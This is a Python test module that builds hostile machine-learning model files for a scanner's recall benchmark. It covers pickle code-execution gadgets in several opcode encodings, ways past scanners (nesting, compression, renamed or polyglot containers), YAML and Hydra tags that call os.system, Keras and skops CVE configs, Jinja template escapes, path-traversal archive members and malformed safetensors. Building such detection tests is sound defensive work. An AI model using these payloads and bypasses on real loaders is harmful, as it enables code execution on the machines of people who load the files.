"""Hostile files of every published class of bypass and of every format, built by hand; never loaded.

Each says which rules would be right. They are made from descriptions of the attacks, not from what the
scanner happens to find: benchmarks/recall.py prints how many of them are found.
"""

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterator

from sbom.record import record
from tests import forge_hostile_formats
from tests.forge import (
    archive,
    call,
    entry,
    literal,
    name,
    safetensors,
    split,
    stack_name,
    state_dict,
    stream,
    tensor,
    text,
    torch_legacy,
    torch_zip,
    u64,
)
from tests.forge_archives import Z, zip_of


@record
class Sample:
    """A file ``name`` with its bytes, the class of attack, and the rules one of which has to fire."""

    id: str
    kind: str
    name: str
    data: bytes
    rules: tuple[str, ...]


CODE = ("ART-001", "ART-002")

# Module, name and arguments; by the capability that loading hands to the file.
GADGETS: dict[str, tuple[tuple[str, tuple[object, ...]], ...]] = {
    "commands": (
        ("os:system", ("id",)), ("posix:system", ("id",)), ("nt:system", ("id",)), ("os:popen", ("id",)),
        ("os:execv", ("/bin/sh", ["sh"])), ("os:spawnlp", (0, "sh", "sh")), ("posix:posix_spawn", ("/bin/sh", ["sh"], {})),
        ("subprocess:Popen", (["id"],)), ("subprocess:run", ("id",)), ("subprocess:check_output", ("id",)),
        ("subprocess:getoutput", ("id",)), ("_posixsubprocess:fork_exec", ([b"id"],)), ("pty:spawn", ("id",)),
        ("commands:getoutput", ("id",)), ("popen2:popen2", ("id",)), ("platform:popen", ("id",)),
        ("asyncio.subprocess:create_subprocess_shell", ("id",)), ("asyncio:create_subprocess_exec", ("id",)),
        ("asyncio.unix_events:_UnixSubprocessTransport._start", (None, "id", True, None, None, None)),
        ("multiprocessing.util:spawnv_passfds", (b"/bin/sh", [], [])), ("webbrowser:open", ("file:///x",)),
        ("_osx_support:_read_output", ("id",)), ("_aix_support:_read_cmd_output", ("id",)),
        ("_pyrepl.pager:pipe_pager", ("x", "id")), ("uuid:_get_command_stdout", ("id",)), ("imaplib:IMAP4_stream", ("id",)),
        ("pip:main", (["install", "x"],)), ("pip._internal:main", (["install", "x"],)),
        ("pip._internal.cli.main:main", (["install", "x"],)), ("ensurepip:_run_pip", (["install", "x"],)),
        ("distutils.spawn:spawn", (["id"],)), ("setuptools._distutils.spawn:spawn", (["id"],)),
        ("numpy.distutils.exec_command:exec_command", ("id",)), ("torch.utils.bottleneck.__main__:run_env_analysis", ()),
        ("torch.utils.collect_env:run", ("id",)), ("ctypes.util:_findLib_gcc", ("x",)), ("pexpect:spawn", ("id",)),
        ("psutil:Popen", (["id"],)), ("sh:Command", ("id",)), ("venv:create", ("x",)), ("antigravity:webbrowser.open", ("x",)),
        ("idlelib.calltip:get_entity", ("x",)), ("torch._inductor.codecache:compile_file", ("a", "b", ["id"])),
    ),
    "code": (
        ("builtins:eval", ("1",)), ("builtins:exec", ("1",)), ("__builtin__:eval", ("1",)), ("builtins:compile", ("1", "", "exec")),
        ("builtins:execfile", ("x",)), ("__builtin__:execfile", ("x",)), ("builtins:breakpoint", ()), ("builtins:input", ()),
        ("code:InteractiveInterpreter.runcode", ("x",)), ("code:interact", ()), ("codeop:compile_command", ("1",)),
        ("runpy:run_path", ("x",)), ("runpy:_run_code", ("x", {})), ("timeit:timeit", ("1",)), ("timeit:main", ([],)),
        ("trace:Trace.run", ("1",)), ("profile:run", ("1",)), ("profile:Profile.run", ("1",)), ("cProfile:run", ("1",)),
        ("cProfile:runctx", ("1", {}, {})), ("_lsprof:Profiler", ()), ("bdb:Bdb.run", ("1",)), ("pdb:run", ("1",)), ("pdb:runeval", ("1",)),
        ("doctest:debug_script", ("1",)), ("doctest:testsource", ("m", "x")), ("pydoc:pipepager", ("x", "id")), ("pydoc:locate", ("os",)),
        ("idlelib.autocomplete:AutoComplete.get_entity", ("x",)), ("idlelib.run:Executive.runcode", ("x",)),
        ("idlelib.debugobj:ObjectTreeItem.SetText", ("x",)), ("idlelib.pyshell:ModifiedInterpreter.runcode", ("x",)),
        ("lib2to3.pgen2.grammar:Grammar.loads", (b"x",)), ("lib2to3.pgen2.pgen:ParserGenerator.make_label", ("x",)),
        ("test.support.script_helper:assert_python_ok", ("-c", "1")), ("test.support:run_code", ("1",)),
        ("unittest.mock:_importer", ("os",)), ("logging.config:dictConfig", ({},)), ("logging.config:fileConfig", ("x",)),
        ("torch._dynamo.guards:GuardBuilder.get", ("x",)), ("torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", ("x",)),
        ("torch.utils.data.datapipes.utils.decoder:basichandlers", ("pkl", b"x")), ("torch.jit.unsupported_tensor_ops:execWrapper", ("1", {}, {})),
        ("torch.utils._config_module:ConfigModule.load_config", (b"x",)), ("torch.hub:load", ("a/b", "c")), ("torch.package:PackageImporter", ("x",)),
        ("torch.fx.graph_module:_exec_with_source", ("1", {})), ("numpy.f2py.crackfortran:getlincoef", ("x", {})),
        ("numpy.f2py.crackfortran:_eval_length", ("x", {})), ("numpy.testing._private.utils:runstring", ("1", {})),
        ("numpy.testing:measure", ("1",)), ("pandas:eval", ("1",)), ("pandas.core.computation.eval:eval", ("1",)), ("numexpr:evaluate", ("1",)),
        ("sympy:sympify", ("1",)), ("sympy.parsing.sympy_parser:parse_expr", ("1",)), ("joblib._utils:eval_expr", ("1",)),
        ("hydra.utils:instantiate", ({},)), ("dill._dill:_eval_repr", ("1",)), ("IPython:embed", ()), ("jinja2:Template", ("{{ 1 }}",)),
        ("mako.template:Template", ("${1}",)), ("typing:get_type_hints", ("x",)), ("zipapp:create_archive", ("x",)),
        ("dataclasses:make_dataclass", ("X", [])), ("types:FunctionType", (1, {})), ("types:CodeType", (0, 0)), ("marshal:loads", (b"x",)),
        ("new:function", (1, {})), ("cloudpickle.cloudpickle:_make_function", (1, {}, "f", (), ())), ("sys:settrace", (1,)),
    ),
    "imports": (
        ("importlib:import_module", ("os",)), ("builtins:__import__", ("os",)), ("importlib._bootstrap:_gcd_import", ("os",)),
        ("importlib.machinery:SourceFileLoader", ("x", "/tmp/x.py")), ("imp:load_source", ("x", "/tmp/x.py")), ("pkgutil:resolve_name", ("os:system",)),
        ("zipimport:zipimporter", ("/tmp/x.zip",)), ("site:addsitedir", ("/tmp",)), ("ctypes:CDLL", ("/tmp/x.so",)), ("_ctypes:dlopen", ("/tmp/x.so",)),
        ("torch.ops:load_library", ("/tmp/x.so",)), ("sqlite3:connect", ("/tmp/x",)), ("cffi:FFI", ()), ("dill._dill:_import_module", ("os.system",)),
    ),
    "files": (
        ("builtins:open", ("/tmp/x", "w")), ("io:open", ("/tmp/x", "w")), ("_io:FileIO", ("/tmp/x", "w")), ("codecs:open", ("/tmp/x", "w")),
        ("shutil:rmtree", ("/tmp/x",)), ("os:remove", ("/tmp/x",)), ("os:rename", ("a", "b")), ("pathlib:Path.write_text", ("x", "y")),
        ("logging:FileHandler", ("/tmp/x",)), ("distutils.file_util:write_file", ("/tmp/x", ["y"])), ("tarfile:open", ("/tmp/x",)),
        ("zipfile:ZipFile", ("/tmp/x", "w")), ("numpy:savetxt", ("/tmp/x", [1])), ("numpy:fromfile", ("/tmp/x",)), ("torch:save", (1, "/tmp/x")),
        ("linecache:getlines", ("/etc/passwd",)), ("fileinput:input", ("/etc/passwd",)), ("glob:glob", ("/*",)), ("tempfile:NamedTemporaryFile", ()),
        ("shelve:open", ("/tmp/x",)), ("dbm:open", ("/tmp/x",)), ("pandas:read_csv", ("/etc/passwd",)), ("joblib:dump", (1, "/tmp/x")),
    ),
    "network": (
        ("urllib.request:urlopen", ("http://x",)), ("urllib.request:urlretrieve", ("http://x", "y")), ("requests:get", ("http://x",)),
        ("requests.api:post", ("http://x",)), ("http.client:HTTPSConnection", ("x",)), ("socket:create_connection", (("x", 1),)),
        ("ftplib:FTP", ("x",)), ("smtplib:SMTP", ("x",)), ("telnetlib:Telnet", ("x",)), ("xmlrpc.client:ServerProxy", ("http://x",)),
        ("ssl:get_server_certificate", (("x", 1),)), ("httpx:get", ("http://x",)), ("aiohttp.client:ClientSession", ()), ("torch.hub:download_url_to_file", ("http://x", "y")),
    ),
    "pickles": (
        ("pickle:load", (1,)), ("pickle:Unpickler", (1,)), ("_pickle:Unpickler", (1,)), ("joblib:load", ("/tmp/x",)), ("torch:load", ("/tmp/x",)),
        ("torch.serialization:load", ("/tmp/x",)), ("numpy:load", ("/tmp/x", None, True)), ("pandas:read_pickle", ("/tmp/x",)), ("dill:load", (1,)),
        ("cloudpickle:load", (1,)), ("numpy.lib.npyio:load", ("/tmp/x",)), ("pandas.io.pickle:read_pickle", ("http://x",)),
        ("sklearn.externals.joblib:load", ("/tmp/x",)), ("transformers.utils.hub:cached_file", ("a", "b")), ("shelve:DbfilenameShelf", ("/tmp/x",)),
    ),
    "interpreter": (
        ("builtins:getattr", (1, "__class__")), ("operator:attrgetter", ("__globals__",)), ("gc:get_objects", ()), ("inspect:currentframe", ()),
        ("sys:_getframe", ()), ("threading:Thread", (None, 1)), ("_thread:start_new_thread", (1, ())), ("atexit:register", (1,)), ("signal:signal", (1, 1)),
        ("weakref:finalize", (1, 1)), ("concurrent.futures:ThreadPoolExecutor", (1,)), ("builtins:globals", ()), ("builtins:vars", ()),
    ),
    "unknown": (
        ("acme.loaders:run", ("id",)), ("my.module:Thing.go", (1, 2)), ("gradio.utils:anything", ("x",)), ("diffusers.custom:build", ("x",)),
    ),
}  # fmt: skip


def _reduce(path: str, args: tuple[object, ...]) -> bytes:
    return stream(call(path, *args))


def _stack(path: str, args: tuple[object, ...]) -> bytes:
    return stream(stack_name(*split(path)), literal(args), b"R")


def _inst(path: str, args: tuple[object, ...]) -> bytes:
    module, qualname = split(path)
    items = b"".join(literal(each, 0) for each in args)
    return stream(b"(" + items + b"i" + f"{module}\n{qualname}\n".encode(), protocol=0)


def _obj(path: str, args: tuple[object, ...]) -> bytes:
    return stream(b"(", name(*split(path)), b"".join(literal(each) for each in args), b"o", protocol=2)


def _memo(path: str, args: tuple[object, ...]) -> bytes:
    module, qualname = split(path)
    put_aside = text(module) + b"\x940" + text(qualname) + b"\x940"
    return stream(put_aside, b"h\0h\1\x93", literal(args), b"R")


def _protocol_0(path: str, args: tuple[object, ...]) -> bytes:
    return stream(name(*split(path)), literal(args, 0), b"R", protocol=0)


ENCODINGS: tuple[Callable[[str, tuple[object, ...]], bytes], ...] = (
    _reduce, _stack, _protocol_0, _memo, _obj, _inst,
)  # fmt: skip
SYSTEM = call("os:system", "id")
ATTACK = stream(SYSTEM)


def gadgets() -> Iterator[Sample]:
    """Each gadget once, in the encodings in turn."""
    at = 0
    for kind, rows in GADGETS.items():
        for path, args in rows:
            encode = ENCODINGS[at % len(ENCODINGS)]
            # OBJ and INST without arguments only make an instance, where the name is a class.
            encode = _stack if not args and encode in (_obj, _inst) else encode
            dotted = "." in split(path)[1]
            encode = _stack if dotted else encode  # older opcodes do not take names apart
            yield Sample(f"{path}{encode.__name__}", f"gadget: {kind}", "model.pkl", encode(path, args), CODE)
            at += 1


def opcodes() -> Iterator[Sample]:
    """What a reader misses that is no machine."""
    getattr_ = name("builtins", "getattr")
    rows: dict[str, bytes] = {
        "PROTO twice": b"\x80\x02\x80\x04" + SYSTEM + b".",
        "no PROTO": SYSTEM + b".",
        "a frame that is short": b"\x80\x04\x95" + u64(3) + SYSTEM + b".",
        "a result put aside": stream(SYSTEM, b"0", literal({"weights": [1, 2]})),
        "OBJ and POP": stream(b"(", name("os", "system"), text("id"), b"o0N"),
        "behind data": stream(literal({"a": [1] * 500}), b"0", SYSTEM),
        "inside a state dict": state_dict({"w": tensor("0", [1]), "x": SYSTEM}),
        "in a key": stream(b"}(", SYSTEM, b"Nu"),
        "in a state": stream(name("collections", "OrderedDict"), b")R", SYSTEM, b"b"),
        "behind a million bytes": stream(b"\x8e" + u64(1 << 20) + bytes(1 << 20), b"0", SYSTEM),
        "a second stream": stream(b"N") + ATTACK,
        "getattr on a module": stream(call("importlib:import_module", "os"), b"\x940", getattr_, b"(h\0", text("system"), b"tR", literal(("id",)), b"R"),
        "attrgetter": stream(call("operator:attrgetter", "system"), b"(", call("importlib:import_module", "os"), b"tR", literal(("id",)), b"R"),
        "methodcaller": stream(call("operator:methodcaller", "system", "id"), b"(", call("importlib:import_module", "os"), b"tR"),
        "partial": stream(name("functools", "partial"), b"(", name("os", "system"), text("id"), b"tR"),
        "map": stream(name("builtins", "map"), b"(", name("os", "system"), literal(["id"]), b"tR"),
        "filter": stream(name("builtins", "filter"), b"(", name("os", "system"), literal(["id"]), b"tR"),
        "reduce": stream(name("functools", "reduce"), b"(", name("os", "system"), literal(["id", "x"]), b"tR"),
        "starmap": stream(name("itertools", "starmap"), b"(", name("os", "system"), literal([("id",)]), b"tR"),
        "defaultdict": stream(name("collections", "defaultdict"), b"(", name("os", "getcwd"), b"tR"),
        "a dotted name": stream(stack_name("torch.serialization", "os.system"), literal(("id",)), b"R"),
        "a library's builtins": stream(stack_name("numpy", "__builtins__.eval"), literal(("1",)), b"R"),
        "six": stream(call("six.moves.builtins:eval", "1")),
        "a name in pieces": stream(call("operator:add", "o", "s"), text("system"), b"\x93", literal(("id",)), b"R"),
        "a name by a decoder": stream(call("codecs:decode", b"bf", "rot13"), text("system"), b"\x93", literal(("id",)), b"R"),
        "a name by a slice": stream(call("builtins:str.lower", "OS"), text("system"), b"\x93", literal(("id",)), b"R"),
        "a registered extension": stream(call("copyreg:add_extension", "os", "system", 9), b"0\x82\x09", literal(("id",)), b"R"),
        "an unregistered extension": stream(b"\x82\x05", literal(("id",)), b"R"),
        "a planted __setstate__": stream(name("m", "X"), b")\x81}(", text("__setstate__"), name("os", "system"), b"ub", text("id"), b"b"),
        "the import path": stream(name("sys", "path"), text("/tmp"), b"a"),
        "a module replaced": stream(name("sys", "modules"), text("re"), name("m", "x"), b"s"),
        "nested and loaded": stream(call("pickle:loads", ATTACK)),
        "nested in a storage": stream(call("torch.storage:_load_from_bytes", ATTACK)),
        "nested in BytesIO": stream(name("torch", "load"), b"(", call("io:BytesIO", ATTACK), b"tR"),
        "NEWOBJ of a process": stream(name("subprocess", "Popen"), literal((["id"],)), b"\x81"),
        "NEWOBJ_EX of a process": stream(name("subprocess", "Popen"), literal((["id"],)), b"}\x92"),
        "_reconstructor": stream(name("copyreg", "_reconstructor"), b"(", name("subprocess", "Popen"), name("builtins", "object"), b"NtR"),
        "a carriage return": b"\x80\x02cos\r\nsystem\n" + literal(("id",), 2) + b"R.",
        "Python 2's names": stream(name("__builtin__", "apply"), b"(", name("os", "system"), literal(("id",)), b"tR", protocol=2),
        "types.MethodType": stream(name("types", "MethodType"), b"(", name("os", "system"), text("id"), b"tR", b")R"),
        "a type by name": stream(call("cloudpickle.cloudpickle:_builtin_type", "CodeType"), literal((0, 0)), b"R"),
        "iter with a sentinel": stream(name("builtins", "iter"), b"(", name("os", "getcwd"), b"NtR"),
        "sorted by a key": stream(name("builtins", "max"), b"(", name("os", "system"), literal(["id"]), b"tR"),
    }  # fmt: skip
    for at, (label, content) in enumerate(rows.items()):
        yield Sample(label, "opcodes", ("m.pkl", "m.joblib", "m.bin", "m.pt", "m")[at % 5], content, CODE)
    broken = {
        "breaks behind the call": stream(SYSTEM, b"0N")[:-1] + b"\xff",
        "ends behind the call": ATTACK[:-1],
        "a stack that is empty": stream(SYSTEM, b"000"),
    }
    for label, content in broken.items():
        yield Sample(label, "broken after it acted", "m.pkl", content, ("ART-001", "ART-004"))


def _tar(**members: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as opened:
        for label, content in members.items():
            row = tarfile.TarInfo(label)
            row.size = len(content)
            opened.addfile(row, io.BytesIO(content))
    return out.getvalue()


def _npy(content: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + content


def containers() -> Iterator[Sample]:
    """The same attack behind everything that loaders open, under honest and foreign names."""
    checkpoint = torch_zip(ATTACK, {"0": bytes(16)})
    rows: dict[str, tuple[str, bytes]] = {
        "torch zip": ("m.pt", checkpoint),
        "torch legacy": ("m.pth", torch_legacy(ATTACK, {})),
        "torch zip, another folder": ("m.ckpt", torch_zip(ATTACK, {}, "a/b")),
        "torch zip called safetensors": ("m.safetensors", checkpoint),
        "pickle called text": ("m.txt", ATTACK),
        "pickle called config": ("config.json", ATTACK),
        "gzip": ("m.pkl.gz", gzip.compress(ATTACK)),
        "gzip without a name": ("m", gzip.compress(ATTACK)),
        "bzip2": ("m.pkl.bz2", bz2.compress(ATTACK)),
        "xz": ("m.pkl.xz", lzma.compress(ATTACK)),
        "lzma": ("m.lzma", lzma.compress(ATTACK, lzma.FORMAT_ALONE)),
        "zlib": ("m.joblib", zlib.compress(ATTACK)),
        "gzip in gzip": ("m.gz", gzip.compress(gzip.compress(ATTACK))),
        "tar": ("m.tar", _tar(a=ATTACK)),
        "tar.gz": ("m.tgz", gzip.compress(_tar(a=ATTACK))),
        "zip": ("m.zip", archive({"a/m.bin": ATTACK})),
        "zip in zip": ("m.zip", archive({"a.bin": archive({"m": ATTACK})})),
        "zip in tar": ("m.tar", _tar(a=archive({"m": ATTACK}))),
        "deflated": ("m.zip", zip_of(Z("m.pkl", ATTACK, method=8))),
        "a wrong CRC": ("m.pt", zip_of(Z("a/data.pkl", ATTACK, crc=1))),
        "flagged as encrypted": ("m.pt", zip_of(Z("a/data.pkl", ATTACK, flags=1))),
        "not in the directory": ("m.pt", zip_of(Z("a/data.pkl", ATTACK, listed=False), Z("b", b""))),
        "pickle in front of a zip": ("m.pkl", ATTACK + archive({"a": b"x"})),
        "zip behind a picture": ("m.png", b"\x89PNG\r\n\x1a\n" + archive({"a/data.pkl": ATTACK})),
        "npy": ("m.npy", _npy(ATTACK)),
        "npz": ("m.npz", archive({"a.npy": _npy(ATTACK)})),
        "npz, a bare pickle": ("m.npz", archive({"a.npy": ATTACK})),
        "wheel": ("m-1-py3-none-any.whl", archive({"m/data.pkl": ATTACK})),
        "nemo": ("m.nemo", _tar(**{"model_config.yaml": b"a: 1", "w.ckpt": checkpoint})),
        "mar": ("m.mar", archive({"MAR-INF/MANIFEST.json": b'{"model": {"handler": "image_classifier"}}', "m.pt": checkpoint})),
        "keras": ("m.keras", archive({"config.json": b"{}", "x.pkl": ATTACK})),
        "skops": ("m.skops", ATTACK),
        "skops with an array": ("m.skops", archive({"schema.json": b"{}", "1.npy": _npy(ATTACK)})),
        "torch.package": ("m.pt", archive({"p/.data/extern_modules": b"os", "p/m/m.pkl": ATTACK})),
        "TorchScript": ("m.pt", archive({"p/data.pkl": stream(b"N"), "p/code/__torch__.py": b"", "p/constants.pkl": ATTACK})),
    }  # fmt: skip
    for label, (file, content) in rows.items():
        yield Sample(label, "containers", file, content, CODE)
    for member in ("../../x.pkl", "/etc/cron.d/x", "..\\x", "C:\\x"):
        yield Sample(f"zip: {member}", "members that leave", "m.zip", archive({member: b"x"}), ("ART-007",))
    for member in ("../../x.pkl", "/etc/cron.d/x"):
        yield Sample(f"tar: {member}", "members that leave", "m.tar", _tar(**{member: b"x"}), ("ART-007",))


LAMBDA = {
    "class_name": "Lambda",
    "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA="}}},
}


def _keras(*layers: object) -> bytes:
    return json.dumps({"class_name": "Sequential", "config": {"layers": list(layers)}}).encode()


def _object(module: str | None, name: str, registered: str | None = None) -> dict[str, object]:
    return {"module": module, "class_name": name, "config": {}, "registered_name": registered}


def formats() -> Iterator[Sample]:
    """What the loaders of other formats would run, read or import."""
    keras = {
        "a Lambda layer": _keras(LAMBDA),
        "a Lambda inside a wrapper": _keras({"class_name": "TimeDistributed", "config": {"layer": LAMBDA}}),
        "CVE-2025-1550: a foreign module": _keras(_object("os", "system")),
        "CVE-2025-8747: a function of Keras": _keras({"class_name": "function", "config": "get_file", "module": "keras.src.utils.file_utils", "registered_name": "get_file"}),
        "CVE-2025-49655: TorchModuleWrapper": _keras(_object("keras.layers", "TorchModuleWrapper")),
        "a SavedModel layer": _keras(_object("keras.layers", "TFSMLayer")),
    }  # fmt: skip
    for label, content in keras.items():
        yield Sample(label, "Keras", "config.json", content, ("ART-008",))
        yield Sample(
            f"{label}, in an archive", "Keras", "m.keras", archive({"config.json": content}), ("ART-008",)
        )
    head = b"\x89HDF\r\n\x1a\n" + bytes(88)
    yield Sample("a Lambda in HDF5", "Keras", "m.h5", head + _keras(LAMBDA) + b"\0", ("ART-008",))
    yaml = {
        "os.system by a tag": "a: !!python/object/apply:os.system [id]\n",
        "a process by a tag": "!!python/object/new:subprocess.Popen [[id]]\n",
        "eval by a name": "!!python/name:eval\n",
        "a tag in full": "!<tag:yaml.org,2002:python/object/apply:builtins.exec> ['1']\n",
        "Hydra: os.system": "model:\n  _target_: os.system\n  command: id\n",
        "Hydra: exec": "_target_: builtins.exec\n_args_: ['1']\n",
        "Hydra: a resolver": "_target_: hydra.utils.get_method\npath: os.system\n",
        "LDM: target": "target: subprocess.run\nparams: {args: id}\n",
        "an unknown call": "!!python/object/apply:acme.run [1]\n",
    }
    for label, words in yaml.items():
        yield Sample(label, "YAML", "config.yaml", words.encode(), CODE)
    nemo = _tar(
        **{"./model_config.yaml": b"_target_: os.system\ncommand: id\n", "./model_weights.ckpt": stream(b"N")}
    )
    yield Sample("CVE-2025-23304: NeMo", "YAML", "m.nemo", nemo, CODE)
    yield Sample("NeMo, packed", "YAML", "m.nemo", gzip.compress(nemo), CODE)
    skops = {
        "a function": {"__module__": "os", "__class__": "system", "__loader__": "FunctionNode"},
        "a call": {"__module__": "subprocess", "__class__": "Popen", "__loader__": "ReduceNode"},
        "CVE-2025-54412": {"__module__": "builtins", "__class__": "int", "__loader__": "OperatorFuncNode", "attrs": []},
        "CVE-2025-54413": {
            "__module__": "builtins", "__class__": "int", "__loader__": "MethodNode",
            "content": {"obj": {"__module__": "acme", "__class__": "X", "__loader__": "ObjectNode"}, "func": "f"},
        },
    }  # fmt: skip
    for label, schema in skops.items():
        content = archive({"schema.json": json.dumps(schema).encode()})
        yield Sample(label, "skops", "m.skops", content, CODE)
    templates = {
        "a way out": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "by attr": "{{ ''|attr('__class__') }}",
        "in pieces": "{{ ''['__cla' ~ 'ss__'] }}",
    }
    for label, words in templates.items():
        yield Sample(label, "templates", "chat_template.jinja", words.encode(), ("ART-011",))
        config = json.dumps({"chat_template": words}).encode()
        yield Sample(
            f"{label}, in a configuration", "templates", "tokenizer_config.json", config, ("ART-011",)
        )
    remote = json.dumps({"auto_map": {"AutoModel": "evil/repo--m.X"}}).encode()
    yield Sample("code of another repository", "remote code", "config.json", remote, ("ART-012",))
    served = archive(
        {"MAR-INF/MANIFEST.json": b'{"model": {"handler": "h.py"}}', "h.py": b"import os\nos.system('id')\n"}
    )
    yield Sample("a handler that acts", "remote code", "m.mar", served, ("ART-012",))
    packaged = archive(
        {"p/.data/extern_modules": b"", "p/m.py": b"import os\nos.system('id')\n", "p/m/m.pkl": stream(b"N")}
    )
    yield Sample("source that acts", "remote code", "m.pt", packaged, ("ART-012",))
    for operator in ('torch.save(x, "/tmp/x")', 'torch.from_file("/etc/passwd")'):
        source = f"def f(x: Tensor) -> Tensor:\n  {operator}\n  return x\n".encode()
        scripted = archive({"p/data.pkl": stream(b"N"), "p/code/__torch__.py": source})
        yield Sample(operator, "TorchScript", "m.pt", scripted, ("ART-009",))
    yield from _tensors()


def _tensors() -> Iterator[Sample]:
    """safetensors that break a law, each in a way that some reader lets pass."""
    f32 = entry("F32", [2], 0, 8)
    rows: dict[str, bytes] = {
        "overlap": safetensors({"a": f32, "b": f32}, bytes(8)),
        "a hole": safetensors({"a": f32, "b": entry("F32", [2], 16, 24)}, bytes(24)),
        "behind the last": safetensors({"a": f32}, bytes(64)),
        "past the end": safetensors({"a": entry("F32", [2], 0, 800)}, bytes(8)),
        "shape and span differ": safetensors({"a": entry("F32", [9], 0, 8)}, bytes(8)),
        "a length that lies": safetensors({"a": f32}, bytes(8), length=1 << 40),
        "a key twice": safetensors(b'{"a":{"dtype":"U8","shape":[0],"data_offsets":[0,0]},"a":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}'),
    }  # fmt: skip
    for label, content in rows.items():
        yield Sample(
            label, "safetensors", "m.safetensors", content, ("ART-013", "ART-006", "COV-003", "ART-017")
        )


def all_samples() -> Iterator[Sample]:
    """Every sample."""
    yield from gadgets()
    yield from opcodes()
    yield from containers()
    yield from formats()
    for row in forge_hostile_formats.rows():
        yield Sample(*row)


SAMPLES: tuple[Sample, ...] = tuple(all_samples())
